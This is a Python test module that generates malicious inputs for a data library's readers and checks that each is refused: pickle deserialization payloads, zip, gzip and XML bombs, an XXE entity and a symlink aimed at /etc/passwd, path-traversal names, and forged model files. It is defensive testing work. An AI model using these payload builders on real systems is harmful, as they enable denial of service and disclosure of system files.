"""Malicious inputs: nothing in them runs, leaves its folder or is live on a page, and none costs much to refuse.

The attacks run one after the other in one process of their own, which counts the processor time of each and is refused
more than a gigabyte of memory beyond what it needs anyway. Bombs are written compressed: nothing here is big on disk.
"""

import ast
import bz2
import gc
import gzip
import io
import json
import lzma
import os
import pickle
import re
import resource
import shutil
import signal
import stat
import struct
import subprocess
import sys
import time
import warnings
import zipfile
import zlib
from html.parser import HTMLParser
from pathlib import Path
from typing import Any, NamedTuple

import joblib
import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from filelock import FileLock
from sklearn.linear_model import LinearRegression

import shared
from case_studies.common.cli import main
from case_studies.common.runs import run_study
from case_studies.demand.settings import DemandSettings
from domains.timeseries.figures import forecast_figure
from shared.data import Column, Panel, Schema, WalkForward, datasets, read_table
from shared.data.frequency import parse_duration
from shared.errors import HexadError
from shared.reporting import Report, Run
from shared.reporting.charts import bar_figure, line_figure
from shared.reporting.page import Fact, Source
from shared.runtime.config import load_settings
from shared.runtime.store import load_model, save_model

pytestmark = pytest.mark.any_pandas


ROOT = Path(shared.__file__).parents[1]
SECONDS = 2.0  # of a core of 2.1 GHz that nobody shares: what an attack may cost
PACE = 0.015  # seconds that `pace` takes there
PATIENCE = 60.0  # against hanging alone: how long it takes on the wall depends on what else the machine does
MEMORY = 1 << 30
BIG = 3 << 30
NUMBERS = Schema((Column("a", "number"),))


class Trap:
    """Unpickling it makes a folder: the canary."""

    def __init__(self, canary: Path) -> None:
        self.canary = str(canary)

    def __reduce__(self):
        return os.mkdir, (self.canary,)


# What the attacks are made of


def table_file(name, data):
    """An attack by a file that is to be read as a table."""
    return Attack(lambda place: write(place / name, data(place) if callable(data) else data), read_table)


def write(path, data):
    path.write_bytes(data if isinstance(data, bytes) else data.encode())
    return path


def trapped(place, protocol=4):
    return pickle.dumps(Trap(place / "canary"), protocol=protocol)


def object_array(place):
    buffer = io.BytesIO()
    np.save(buffer, np.array([Trap(place / "canary")], dtype=object), allow_pickle=True)
    return buffer.getvalue()


def archive(*members, patch=None):
    """A zip of (name or ZipInfo, data)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as made:
        for name, data in members:
            made.writestr(name, data)
    return buffer.getvalue()


def repacked(data, change):
    """A zip with members changed, added or left out (None)."""
    with zipfile.ZipFile(io.BytesIO(data)) as old:
        members = {name: old.read(name) for name in old.namelist()}
    members.update(change(members))
    return archive(*((name, content) for name, content in members.items() if content is not None))


def long_deflate(total, character=b"1"):
    """A deflate stream of `total` times the same character, made of one block repeated."""
    block = character * (1 << 20)
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    return piece * (total >> 20) + zlib.compressobj(9, zlib.DEFLATED, -15).flush()


def zip_of_stream(name, stream, claimed, method=8):
    """A zip whose one member is a ready stream that claims to unpack to `claimed` bytes."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as made:
        made.writestr(zipfile.ZipInfo(name), stream)
    data = bytearray(buffer.getvalue())
    central = data.rindex(b"PK\x01\x02")
    for place, size in ((8, 22), (central + 10, central + 24)):
        struct.pack_into("<H", data, place, method)
        struct.pack_into("<I", data, size, claimed)
    return bytes(data)


WORKBOOK = {
    "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
    "_rels/.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="xl/workbook.xml"/></Relationships>',
    "xl/_rels/workbook.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
    'Target="worksheets/sheet1.xml"/></Relationships>',
    "xl/workbook.xml": '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="a" sheetId="1" r:id="r"/></sheets></workbook>',
}


def workbook(rows, doctype="", **more):
    """An Excel file whose sheet holds the given XML of rows."""
    sheet = (
        f'<?xml version="1.0"?>{doctype}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f"<sheetData>{rows}</sheetData></worksheet>"
    )
    return archive(*WORKBOOK.items(), ("xl/worksheets/sheet1.xml", sheet), *more.items())


def cell(place, text):
    return f'<c r="{place}" t="inlineStr"><is><t>{text}</t></is></c>'


HEADER_CELL = f'<row r="1">{cell("A1", "a")}</row>'
LAUGHS = "<!DOCTYPE x [" + '<!ENTITY l0 "ha ha ha ha">'
LAUGHS += "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10)) + "]>"


def parquet_of_one_value(value, kind, groups):
    """A Parquet file of millions of rows that are all the same: few bytes in the file, and few once 'unpacked'."""
    column = pa.array([value], kind).take(pa.array(np.zeros(1 << 20, dtype=np.int32)))
    batch = pa.table({"a": column})
    buffer = io.BytesIO()
    with pq.ParquetWriter(buffer, batch.schema, compression="zstd") as made:
        for _ in range(groups):
            made.write_table(batch)
    return buffer.getvalue()


def parquet(table):
    buffer = io.BytesIO()
    pq.write_table(table, buffer)
    return buffer.getvalue()


def extension_parquet(place):
    """A column of the type that older Arrow readers restored by unpickling."""
    told = {"ARROW:extension:name": "arrow.py_extension_type", "ARROW:extension:metadata": trapped(place)}
    field = pa.field("a", pa.int64(), metadata=told)
    return parquet(pa.table([pa.array([1, 2])], schema=pa.schema([field])))


def pandas_parquet(place):
    """pandas' own notes on a table, with a pickle and a path in them."""
    notes = {"index_columns": [{"kind": "range", "name": "../../x"}], "columns": [], "creator": trapped(place).hex()}
    table = pa.table({"a": [1, 2]}).replace_schema_metadata({"pandas": json.dumps(notes)})
    return parquet(table)


def model_file(place, change=None, envelope=None):
    """A model file with its payload changed and signed again."""
    import hashlib

    path = place / "model.hexad"
    save_model(LinearRegression().fit([[0.0], [1.0]], [0.0, 2.0]), path)

    def forged(members):
        payload = change(members["model.skops"]) if change else members["model.skops"]
        told = json.loads(members["envelope.json"]) | {"sha256": hashlib.sha256(payload).hexdigest()}
        text = envelope if envelope is not None else json.dumps(told).encode()
        return {"model.skops": payload, "envelope.json": text}

    return write(path, repacked(path.read_bytes(), forged))


def model_attack(change=None, envelope=None):
    def make(place):
        return model_file(place, (lambda payload: change(payload, place)) if change else None, envelope)

    return Attack(make, load_model)


def schema_changed(alter):
    def change(payload, place):
        def schema(members):
            told = json.loads(members["schema.json"])
            return {"schema.json": json.dumps(alter(told, place))}

        return repacked(payload, schema)

    return change


def arrays_changed(alter):
    def change(payload, place):
        return repacked(payload, lambda old: {name: alter(place) for name in old if name.endswith(".npy")})

    return change


def calling(loader, module, name):
    """A node that asks for a function to be called with the canary's name."""

    def alter(schema, place):
        text = {"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode", "is_json": True, "__id__": 1}
        text["content"] = json.dumps(str(place / "canary"))
        arguments = {
            "__class__": "tuple",
            "__module__": "builtins",
            "__loader__": "TupleNode",
            "content": [text],
            "__id__": 2,
        }
        node = {"__class__": name, "__module__": module, "__loader__": loader, "__id__": 3, "content": arguments}
        inner = {"func": node, "args": arguments, "kwds": {}, "namespace": {}, "attrs": arguments, "obj": text}
        return schema | node | {"reduce": {"args": arguments}, "attrs": arguments, "content": inner}

    return schema_changed(alter)


def array_that_claims(place):
    buffer = io.BytesIO()
    np.lib.format.write_array_header_1_0(buffer, {"descr": "<f8", "fortran_order": False, "shape": (2**61,)})
    return buffer.getvalue()


def nested(payload, depth):
    for number in range(depth):
        payload = archive((f"{number}.zip", payload))
    return payload


def settings_attack(text):
    return Attack(lambda place: write(place / "own.toml", text), lambda path: load_settings(DemandSettings, path))


def override_attack(*texts):
    return Attack(lambda place: None, lambda _: load_settings(DemandSettings, None, texts))


def demand_settings(**values):
    """Settings that are read, then asked for the stamps of the horizon of a small panel, as the study does."""

    def act(_):
        panel = Panel.from_frame(
            pd.DataFrame({"Time": pd.date_range("2024-01-01", periods=9, freq="30min"), "Demand": 1.0}),
            shared.data.SeriesColumns(ds="Time", y="Demand"),
        )
        load_settings(DemandSettings, values=values).upcoming(panel)

    return Attack(lambda place: None, act)


def days(count=400):
    return pd.DataFrame({"ds": pd.date_range("2024-01-01", periods=count), "y": 1.0})


def two_centuries():
    """Three seconds, and one stamp two hundred years later."""
    stamps = ["2024-01-01 00:00:00", "2024-01-01 00:00:01", "2024-01-01 00:00:02", "2224-01-01 00:00:00"]
    return pd.DataFrame({"ds": pd.to_datetime(stamps), "y": 1.0})


def walking(*arguments, table=None, **options):
    return Attack(
        lambda place: None, lambda _: WalkForward(*arguments, **options).splits(days() if table is None else table)
    )


def panel_of(frame, **options):
    return Attack(lambda place: None, lambda _: Panel.from_frame(frame() if callable(frame) else frame, **options))


def run_attack(*, study="demand", out="run", **options):
    """A run of the study, within the attack's own folder."""

    def act(place):
        os.chdir(place)
        run_study(study, out=out if isinstance(out, Path) else Path(out), quick=True, **options)

    return Attack(lambda place: place, act)


def fifo(place):
    os.mkfifo(place / "own.csv")
    return place / "own.csv"


class Attack(NamedTuple):
    make: Any
    act: Any
    # Whether it may also end well, because what is dangerous in it is simply not looked at.
    may_pass: bool = False


def harmless(attack):
    return attack._replace(may_pass=True)


LONG = "1" * 10_000_000
HUGE_LINE = 50_000_000

PICKLES = {
    "a pickle called .csv": table_file("own.csv", trapped),
    "a pickle of protocol 0 called .csv": harmless(table_file("own.csv", lambda place: trapped(place, 0))),
    "a pickle called .parquet": table_file("own.parquet", trapped),
    "a pickle called .xlsx": table_file("own.xlsx", trapped),
    "a pickle called .pkl": table_file("own.pkl", trapped),
    "a pickle in gzip": table_file("own.csv.gz", lambda place: gzip.compress(trapped(place))),
    "a pickle in bz2 called .csv": table_file("own.csv", lambda place: bz2.compress(trapped(place))),
    "a pickle in a zip": table_file("own.zip", lambda place: archive(("own.csv", trapped(place)))),
    "a pickle called .toml": Attack(
        lambda place: write(place / "own.toml", trapped(place)), lambda path: load_settings(DemandSettings, path)
    ),
    "a pickle called .hexad": Attack(lambda place: write(place / "own.hexad", trapped(place)), load_model),
    "a zipped pickle called .hexad": Attack(
        lambda place: write(place / "own.hexad", archive(("envelope.json", b"{}"), ("model.skops", trapped(place)))),
        load_model,
    ),
    "an array of objects called .csv": table_file("own.csv", object_array),
    "an array of objects called .npy": table_file("own.npy", object_array),
    "an array of objects in .npz": table_file("own.npz", lambda place: archive(("a.npy", object_array(place)))),
    "a joblib file called .csv": Attack(
        lambda place: Path(joblib.dump(Trap(place / "canary"), place / "own.csv")[0]), read_table
    ),
    "a compressed joblib file": Attack(
        lambda place: Path(joblib.dump(Trap(place / "canary"), place / "own.gz", compress=("gzip", 3))[0]), read_table
    ),
    "an array of objects inside a model": model_attack(arrays_changed(object_array)),
    "a model that reduces to a call": model_attack(calling("ReduceNode", "os", "mkdir")),
    "a model that is a function": model_attack(calling("FunctionNode", "os", "mkdir")),
    "a model that is a partial function": model_attack(calling("PartialNode", "functools", "partial")),
    "a model that is a method": model_attack(calling("MethodNode", "pathlib", "Path")),
    "a model of numpy's loader": model_attack(calling("ObjectNode", "numpy", "load")),
    "a model of our own writer": model_attack(calling("FunctionNode", "shared.runtime.store", "write_bytes")),
    "a Parquet extension that unpickles": harmless(table_file("own.parquet", extension_parquet)),
    "a Parquet file with notes for pandas": harmless(table_file("own.parquet", pandas_parquet)),
    "a Parquet column of pickles": harmless(
        table_file("own.parquet", lambda place: parquet(pa.table({"a": [trapped(place)]})))
    ),
    "a workbook with macros": harmless(
        Attack(
            lambda place: write(place / "own.xlsm", workbook(HEADER_CELL * 2, **{"xl/vbaProject.bin": trapped(place)})),
            read_table,
        )
    ),
}  # fmt: skip

BOMBS = {
    "a gzip bomb": table_file("own.csv.gz", lambda place: gzip.compress(b"1" * (1 << 20)) * (BIG >> 20)),
    "a bz2 bomb": table_file("own.csv.bz2", lambda place: bz2.compress(b"1" * 10_000_000) * (BIG // 10_000_000)),
    "an xz bomb": table_file("own.csv.xz", lambda place: lzma.compress(b"1" * 10_000_000) * (BIG // 10_000_000)),
    "a zip bomb": table_file("own.zip", lambda place: zip_of_stream("own.csv", long_deflate(BIG), BIG)),
    "a zip bomb that lies about its size": table_file(
        "own.zip", lambda place: zip_of_stream("own.csv", long_deflate(BIG), 1000)
    ),
    "a zip in a zip in a zip": table_file("own.zip", lambda place: nested(zip_of_stream("a", long_deflate(BIG), BIG), 9)),
    "a zip of 20,000 files": table_file("own.zip", lambda place: archive(*((str(n), b"") for n in range(20_000)))),
    "a gzip in a gzip": table_file(
        "own.csv.gz", lambda place: gzip.compress(gzip.compress(b"1" * (1 << 20)) * (BIG >> 20))
    ),
    "a workbook bomb": table_file(
        "own.xlsx", lambda place: zip_of_stream("xl/worksheets/sheet1.xml", long_deflate(BIG, b" "), BIG)
    ),
    "a workbook with one cell in the last corner": table_file(
        "own.xlsx",
        lambda place: workbook(f'{HEADER_CELL}<row r="1048576">{cell("XFD1048576", "x")}</row>'),
    ),
    "a workbook of billion laughs": table_file(
        "own.xlsx", lambda place: workbook(f'{HEADER_CELL}<row r="2">{cell("A2", "&l9;")}</row>', LAUGHS)
    ),
    "a workbook that swells quadratically": table_file(
        "own.xlsx",
        lambda place: workbook(
            f'{HEADER_CELL}<row r="2">{cell("A2", "&x;" * 50_000)}</row>', f'<!DOCTYPE x [<!ENTITY x "{"x" * 50_000}">]>'
        ),
    ),
    "a Parquet file of 150 million equal numbers": table_file(
        "own.parquet", lambda place: parquet_of_one_value(1, pa.int64(), 150)
    ),
    "a Parquet file of 20 million equal long texts": table_file(
        "own.parquet", lambda place: parquet_of_one_value("x" * 100, pa.string(), 20)
    ),
    "a Parquet file of 12,000 columns": harmless(
        table_file("own.parquet", lambda place: parquet(pa.table({f"c{n}": [1] for n in range(12_000)})))
    ),
    "a model of three gigabytes": Attack(
        lambda place: write(place / "m.hexad", zip_of_stream("model.skops", long_deflate(BIG), BIG)), load_model
    ),
    "a model with an envelope of 900 megabytes": Attack(
        lambda place: write(
            place / "m.hexad",
            joined(zip_of_stream("envelope.json", long_deflate(900 << 20), 900 << 20), ("model.skops", b"")),
        ),
        load_model,
    ),
    "a model with an array that claims 16 exabytes": model_attack(arrays_changed(array_that_claims)),
    "a model with a deep plan": model_attack(
        lambda payload, place: repacked(payload, lambda _: {"schema.json": '{"content":' * 100_000 + "1" + "}" * 100_000})
    ),
    "a CSV with a million columns": table_file(
        "own.csv", lambda place: ",".join(f"c{n}" for n in range(1_000_000)) + "\n" + "1," * 999_999 + "1\n"
    ),
    "a CSV with a million empty column names": table_file("own.csv", lambda place: "a" + "," * 1_000_000 + "\n"),
    "a line of 50 MB of commas": table_file("own.csv", lambda place: "a,b\n" + "," * HUGE_LINE + "\n"),
    "a line of 50 MB of one letter": harmless(table_file("own.csv", lambda place: "a,b\n1," + "x" * HUGE_LINE + "\n")),
    "a header of 50 MB": harmless(table_file("own.csv", lambda place: "x" * HUGE_LINE + ",b\n1,2\n")),
    "a line of 50 MB of digits": harmless(
        Attack(lambda place: write(place / "own.csv", "a,b\n" + "1" * HUGE_LINE + ",2\n"), lambda p: read_table(p, NUMBERS))
    ),
    "a million quotes": harmless(table_file("own.csv", lambda place: "a,b\n1," + '"' * 1_000_000 + "\n")),
    "a million quoted line ends": harmless(table_file("own.csv", lambda place: 'a,b\n1,"' + '\n""' * 1_000_000 + '"\n')),
    "a million ragged rows": table_file("own.csv", lambda place: "a,b\n" + "1\n" * 1_000_000),
    "100,000 columns that are nearly the wanted one": Attack(
        lambda place: write(
            place / "own.csv", ",".join(f"Demamd{n}" for n in range(100_000)) + "\n" + "1," * 99_999 + "1\n"
        ),
        lambda path: read_table(path, Schema((Column("Demand", "number"),))),
    ),
}  # fmt: skip


def joined(data, *more):
    """A ready zip with further members."""
    buffer = io.BytesIO(data)
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as made:
        for name, content in more:
            made.writestr(name, content)
    return buffer.getvalue()


PATTERNS = {
    "ten million digits in a header": harmless(table_file("own.csv", lambda place: LONG + "x,b\n1,2\n")),
    "ten million grouped digits": harmless(
        Attack(
            lambda place: write(place / "own.csv", "a;b\n1" + ",111" * 2_500_000 + "x;1\n"), lambda p: read_table(p, NUMBERS)
        )
    ),
    "a header of points and commas": harmless(table_file("own.csv", lambda place: ".," * 2_000_000 + "x;b\n1;2\n")),
    "an exponent without an end": harmless(table_file("own.csv", lambda place: f"a\n1e{LONG}x\n")),
    "blanks without an end": harmless(table_file("own.csv", lambda place: "a,b\n" + " " * 10_000_000 + "x,1\n")),
    "a stamp without an end": harmless(
        table_file("own.csv", lambda place: "a,b\n2024-01-01T" + "00:" * 3_000_000 + "Z,1\n")
    ),
    "a fraction without an end": harmless(table_file("own.csv", lambda place: f"a,b\n2024-01-01T00:00:00.{LONG},1\n")),
    "a duration of ten million digits": Attack(lambda place: None, lambda _: parse_duration(LONG + "D")),
    "a duration of ten million blanks": Attack(lambda place: None, lambda _: parse_duration(" " * 10_000_000 + "x")),
    "a duration of nothing but blanks": Attack(lambda place: None, lambda _: parse_duration(" " * 10_000_000)),
    "business days among ten million blanks": Attack(
        lambda place: None, lambda _: parse_duration("B closed" + " " * 10_000_000 + "x")
    ),
    "business days with a million dates": Attack(
        lambda place: None, lambda _: parse_duration("B closed" + " 2024-01-01" * 1_000_000 + " x")
    ),
    "a duration of ten million letters": Attack(lambda place: None, lambda _: parse_duration("D" * 10_000_000)),
    "a clock of ten million digits": override_attack(f"clocks=['{LONG}']"),
    "an encoding whose reader is slow": Attack(
        lambda place: write(place / "own.csv", "a,b\n1-" + "9" * 1_000_000 + ",2\n"),
        lambda path: read_table(path, encoding="punycode"),
    ),
    "a date format that names the day twice": Attack(
        lambda place: write(place / "own.csv", "a\n0101\n"),
        lambda path: read_table(path, Schema((Column("a", "datetime"),)), dates="%d%d"),
    ),
    "a date format with a huge width": Attack(
        lambda place: write(place / "own.csv", "a\n01\n"),
        lambda path: read_table(path, Schema((Column("a", "datetime"),)), dates="%999999999d"),
    ),
}  # fmt: skip

SETTINGS = {
    "100,000 keys": settings_attack("".join(f"k{n}=1\n" for n in range(100_000))),
    "100,000 tables": settings_attack("".join(f"[k{n}]\n" for n in range(100_000))),
    "a key of 20,000 parts": settings_attack("a" + ".a" * 20_000 + " = 1\n"),
    "a key of 500,000 parts": settings_attack("a" + ".a" * 500_000 + " = 1\n"),
    "a table name of 20,000 parts": settings_attack("[a" + ".a" * 20_000 + "]\n"),
    "lists 300,000 deep": settings_attack("risk = " + "[" * 300_000),
    "tables 100,000 deep": settings_attack("risk = " + "{a=" * 100_000),
    "a number of 900,000 digits": settings_attack("origins = " + "9" * 900_000),
    "a number of 4,000 digits": settings_attack("origins = " + "9" * 4_000),
    "a hexadecimal number of 900,000 digits": settings_attack("origins = 0x" + "f" * 900_000),
    "a float of 900,000 digits": settings_attack("risk = 0." + "9" * 900_000),
    "a float beyond all bounds": settings_attack("risk = 1e999999999"),
    "a text of a megabyte as a clock": settings_attack('clocks = ["' + "1" * 1_000_000 + '"]'),
    "a list of 300,000 clocks": settings_attack("clocks = [" + '"",' * 300_000 + "]"),
    "a date as a text": settings_attack("first_origin = 9999-12-31T23:59:59.999999+23:59"),
    "an unknown key that holds markup": settings_attack('"<script>alert(1)</script>" = 1'),
    "settings of two megabytes": settings_attack("#" * (2 << 20)),
    "a settings file that is a folder": Attack(lambda place: place, lambda path: load_settings(DemandSettings, path)),
    "an override of 20,000 parts": override_attack("read.tz" + ".a" * 20_000 + "=1"),
    "an override of 900 parts": override_attack("read.tz" + ".a" * 900 + "=1"),
    "an override nested 50,000 deep": override_attack("read.tz=" + "[" * 50_000),
    "an override nested 400 deep": override_attack("read.tz=" + "[" * 400 + "]" * 400),
    "an override of dunder names": override_attack("__class__=1", "read.__init__.__globals__=1"),
    "more trials than can be": override_attack("origins=999999999999"),
    "more workers than can be": override_attack("n_jobs=999999999"),
    "a horizon of 999,999,999 days": demand_settings(horizon="999999999D"),
    "a horizon of 999,999,999 weeks": demand_settings(horizon="999999999W"),
    "a horizon of ten billion steps": demand_settings(horizon=10_000_000_000),
    "a horizon beyond 64 bits": demand_settings(horizon=2**70),
    "a horizon of all steps": demand_settings(horizon="999999999"),
}

DATES = {
    "a year of nine digits": Attack(
        lambda place: write(place / "own.csv", "a\n2024-01-01\n999999999-01-01\n"),
        lambda path: read_table(path, Schema((Column("a", "datetime"),))),
    ),
    "a UTC offset of 99 hours": Attack(
        lambda place: write(place / "own.csv", "a\n2024-01-01T00:00+99:99\n2024-01-01T01:00+99:99\n"),
        lambda path: read_table(path, Schema((Column("a", "datetime"),))),
    ),
    "years 1 and 9999 with offsets": Attack(
        lambda place: write(place / "own.csv", "ds,y\n0001-01-01T00:00+14:00,1\n9999-12-31T23:59-12:00,2\n"),
        lambda path: Panel.from_frame(read_table(path, tz="Europe/Berlin")),
    ),
    "stamps at the ends of 64 bits": Attack(
        lambda place: write(
            place / "own.parquet",
            parquet(pa.table({"ds": pa.array([-(2**63) + 1, 0, 2**63 - 1], pa.timestamp("us")), "y": [1.0, 2, 3]})),
        ),
        lambda path: Panel.from_frame(read_table(path)),
    ),
    "stamps in a zone at the ends of 64 bits": Attack(
        lambda place: write(
            place / "own.parquet",
            parquet(
                pa.table({"ds": pa.array([-(2**62), 0, 2**62], pa.timestamp("us", "Europe/Berlin")), "y": [1.0, 2, 3]})
            ),
        ),
        lambda path: Panel.from_frame(read_table(path)),
    ),
    "a gap of two centuries of seconds, to be filled": panel_of(
        two_centuries,
        repair="interpolate",
    ),
    "a gap of 2**60 whole numbers, to be filled": panel_of(
        lambda: pd.DataFrame({"ds": [1, 2, 3, 2**60], "y": 1.0}), repair="interpolate"
    ),
    "a gap of two centuries of seconds": panel_of(
        two_centuries
    ),
    "whole numbers at the ends of 64 bits": panel_of(lambda: pd.DataFrame({"ds": [-(2**63), 0, 2**63 - 1], "y": 1.0})),
    "steps of 999,999,999 years": panel_of(days, freq="999999999Y"),
    "steps of 999,999,999 weeks": panel_of(days, freq="999999999W"),
    "steps of 999,999,999 business days": panel_of(days, freq="999999999B"),
    "a future of ten trillion steps": Attack(lambda place: None, lambda _: Panel.from_frame(days()).future_frame(10**13)),
    "a future of ten billion whole numbers": Attack(
        lambda place: None, lambda _: Panel.from_frame(pd.DataFrame({"ds": [1, 2, 3], "y": 1.0})).future_frame(10**10)
    ),
    "walking by 999,999,999 days": walking("1D", every="999999999D", n_splits=2),
    "walking by 999,999,999 weeks": walking("1D", every="999999999W", n_splits=2),
    "walking by 999,999,999 years": walking("1D", every="999999999Y", n_splits=2),
    "walking by 999,999,999 months from the start": walking("1D", every="999999999M", n_splits=2, first="2024-02-01"),
    "walking by 999,999,999 business days": walking("1D", every="999999999B", n_splits=2),
    "walking by 999,999,999 hours": walking("1D", every="999999999h", n_splits=2),
    "a test of 999,999,999 days": walking("999999999D", every="1D", n_splits=2),
    "a test of 999,999,999 years": walking("999999999Y", every="1D", n_splits=2),
    "a gap of 999,999,999 days": walking("1D", every="1D", n_splits=2, gap="999999999D"),
    "a test of 999,999,999 hours": walking("999999999h", every="1D", n_splits=2),
    "a first cutoff in the year 999999999": walking("1D", every="1D", n_splits=2, first="999999999-01-01"),
    "a first cutoff of a long text": walking("1D", every="1D", n_splits=2, first="9" * 100_000),
    "a billion cutoffs": walking("1D", every="1D", n_splits=10**9, first="2024-01-05"),
    "integers of 5,000 digits as text": Attack(
        lambda place: None,
        lambda _: read_table(pd.DataFrame({"a": [10**5000, 1]}, dtype=object), Schema((Column("a", "text"),))),
    ),
    "integers of 5,000 digits as numbers": Attack(
        lambda place: None, lambda _: read_table(pd.DataFrame({"a": [10**5000, 1]}, dtype=object), NUMBERS)
    ),
}  # fmt: skip


def symlink_member(place):
    link = zipfile.ZipInfo("own.csv")
    link.create_system, link.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    return archive((link, "/etc/passwd"))


def zoneinfo_bytes():
    """A zone of the standard library, as the file that it is."""
    import importlib.resources

    return (importlib.resources.files("tzdata.zoneinfo") / "UTC").read_bytes()


PATHS = {
    "a zip member that is a link": table_file("own.zip", symlink_member),
    "a zip member above its folder": harmless(table_file("own.zip", archive(("../../canary", b"a\n1\n")))),
    "a zip member with an absolute name": harmless(table_file("own.zip", archive(("/tmp/canary", b"a\n1\n")))),
    "a model member above its folder": Attack(
        lambda place: write(place / "m.hexad", archive(("../canary", b"x"), ("model.skops", b"x"))), load_model
    ),
    "model arrays above their folder": model_attack(
        schema_changed(lambda schema, place: json.loads(re.sub(r'"\d+\.npy"', '"../../../canary"', json.dumps(schema))))
    ),
    "a study above the folder": run_attack(study="../../x"),
    "a folder that is no study": run_attack(study=str(ROOT / "case_studies" / "common")),
    "a study that is a module": run_attack(study="__main__"),
    "a study with a NUL": run_attack(study="demand\0"),
    "a study with a line end": run_attack(study="demand\n"),
    "an --out with a NUL": run_attack(out="run\0"),
    "an --out that is a file": run_attack(out="/dev/null"),
    "an --out below a file": run_attack(out="/dev/null/x"),
    "an --out in the kernel": run_attack(out="/proc/self/x"),
    "an --out of 5,000 letters": run_attack(out="x" * 5000),
    "data with a NUL": run_attack(data=Path("own\0.csv")),
    "data of 5,000 letters": run_attack(data=Path("x" * 5000)),
    "data that is a folder": run_attack(data=Path()),
    "data that is a link in a circle": Attack(
        lambda place: (place / "own.csv").symlink_to("own.csv") or place / "own.csv", read_table
    ),
    "data that is a pipe nobody writes to": Attack(fifo, read_table),
    "data that is a pipe called .parquet": Attack(
        lambda place: os.mkfifo(place / "own.parquet") or place / "own.parquet", read_table
    ),
    "data that never end": Attack(lambda place: Path("/dev/zero"), read_table),
    "a model that never ends": Attack(lambda place: Path("/dev/zero"), load_model),
    "a time zone that is a path": override_attack("timezone=../../../etc/passwd"),
    "a time zone that is an absolute path": override_attack("timezone=/etc/passwd"),
    "a time zone in a file": Attack(
        lambda place: write(place / "zone", zoneinfo_bytes()),
        lambda path: load_settings(DemandSettings, None, [f"timezone=dateutil/{path}"]),
    ),
    "a time zone in no file": override_attack("timezone=dateutil//none"),
    "an encoding that is a path": Attack(
        lambda place: write(place / "own.csv", "a\n1\n"), lambda path: read_table(path, encoding="../../etc/passwd")
    ),
    "an encoding that unpacks": Attack(
        lambda place: write(place / "own.csv", bz2.compress(b"a\n1\n")[4:]), lambda path: read_table(path, encoding="bz2")
    ),
    "a workbook that names a file of the system": table_file(
        "own.xlsx",
        lambda place: workbook(
            f'{HEADER_CELL}<row r="2">{cell("A2", "&x;")}</row>', '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        ),
    ),
}  # fmt: skip

FILES = {**PICKLES, **BOMBS, **PATTERNS, **SETTINGS, **DATES, **PATHS}


# The process in which they run


class TooLongError(BaseException):
    """Not an Exception, so that nothing takes it for a torn file."""


def too_long(*_):
    raise TooLongError


def told_by(error):
    """An error and everything that led to it."""
    chain = []
    while error is not None and error not in chain:
        chain.append(error)
        error = error.__cause__ or error.__context__
    return chain


def virtual_size():
    return int(Path("/proc/self/statm").read_text().split()[0]) * resource.getpagesize()


def pace():
    """Least seconds of processor time that a fixed piece of work takes now: more on a slow core, or on a shared one."""
    found = []
    for _ in range(3):
        since = time.process_time()
        zlib.crc32(b"".join(bytes(str(n), "ascii") for n in range(40_000)))
        found.append(time.process_time() - since)
    return min(found)


def judged(attack, place):
    """Let one attack run; say how it ended, in what time, and which files it left."""
    place.mkdir()
    (place / "in").mkdir()
    given = attack.make(place / "in")
    before = {str(path) for path in place.rglob("*")}
    os.chdir(place)
    gc.collect()
    hard = resource.getrlimit(resource.RLIMIT_AS)[1]
    resource.setrlimit(resource.RLIMIT_AS, (virtual_size() + MEMORY, hard))
    slow = pace()
    cpu = time.process_time()
    try:
        signal.setitimer(signal.ITIMER_PROF, 2.2 * SECONDS)
        signal.setitimer(signal.ITIMER_REAL, PATIENCE)
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            attack.act(given)
        end, text, kinds = "passed", "", []
    except BaseException as error:
        chain = told_by(error)
        end = "refused" if isinstance(error, HexadError) else "too long" if isinstance(error, TooLongError) else "broke"
        if any(isinstance(link, MemoryError) for link in chain):
            end = "out of memory"
        text, kinds = str(error), [type(link).__name__ for link in chain]
        del error, chain
    finally:
        signal.setitimer(signal.ITIMER_PROF, 0)
        signal.setitimer(signal.ITIMER_REAL, 0)
        resource.setrlimit(resource.RLIMIT_AS, (hard, hard))
    seconds = time.process_time() - cpu
    seconds /= min(2.0, max(1.0, (slow + pace()) / 2 / PACE))
    # A run may leave its settings in its own folder, and nothing anywhere else.
    left = {str(path) for path in place.rglob("*")} - before
    left = sorted(left - {str(place / "in" / "run"), str(place / "in" / "run" / "settings.toml")})
    os.chdir(place.parent)
    shutil.rmtree(place)
    return {
        "end": end,
        "text": text[:2000],
        "length": len(text),
        "kinds": kinds,
        "seconds": seconds,
        "left": left,
    }


def work(folder, chosen):
    """Run the attacks and print how each ended."""
    signal.signal(signal.SIGPROF, too_long)
